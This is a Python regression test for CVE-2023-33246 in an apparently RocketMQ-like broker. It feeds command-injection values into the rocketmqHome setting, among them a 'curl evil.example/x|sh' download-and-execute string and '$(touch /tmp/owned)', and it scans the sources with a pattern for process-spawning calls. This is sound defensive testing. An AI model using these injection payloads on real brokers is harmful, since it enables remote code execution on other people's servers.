"""CVE-2023-33246: updateBrokerConfig set rocketmqHome, which a broker then gave to a shell."""

import re
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from roketto.broker.config import BrokerConfig
from roketto.protocol.errors import RequestError
from unit.broker.handlers.test_config import ConfigRig

HOMES = ("-c $@|sh . echo curl evil.example/x|sh", "/tmp/owned", "$(touch /tmp/owned)", "")
SOURCES = Path(__file__).parents[2] / "src" / "roketto"


@pytest.fixture
def rig(tmp_path: Path) -> Iterator[ConfigRig]:
    rig = ConfigRig(tmp_path)
    yield rig
    rig.close()


@pytest.fixture
def started(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """The programs that somebody tried to start."""
    found: list[object] = []

    def start(*args: Any, **more: Any) -> None:
        found.append(args)
        raise AssertionError(args)

    monkeypatch.setattr(subprocess, "Popen", start)
    monkeypatch.setattr("os.system", start)
    return found


@pytest.mark.parametrize("home", HOMES)
@pytest.mark.parametrize("others", [{}, {"filterServerNums": "1"}, {"fileReservedTime": "1"}])
async def test_the_home_of_a_broker_never_changes_by_request(
    rig: ConfigRig, started: list[object], home: str, others: dict[str, str]
) -> None:
    """As the attack wrote it, alone, with the key that made Java run it, and beside a good one."""
    with pytest.raises(RequestError):
        await rig.update(rocketmqHome=home, **others)
    assert rig.config == BrokerConfig(store_path_root_dir=rig.root, broker_ip1="10.0.0.1")
    assert not rig.config.broker_config_path.exists()
    assert not started


def test_no_server_can_start_a_program() -> None:
    """There is nothing in the sources that a text could reach.

    The part for Spark looks for a Java, on the machines of its users; no server may import it.
    """
    for source in SOURCES.rglob("*.py"):
        if source.is_relative_to(SOURCES / "spark"):
            continue
        found = re.findall(
            r"\b(subprocess|os\.system|os\.popen|os\.exec\w+|os\.\w*spawn\w*|import pty)\b",
            source.read_text(),
        )
        assert not found, (source, found)
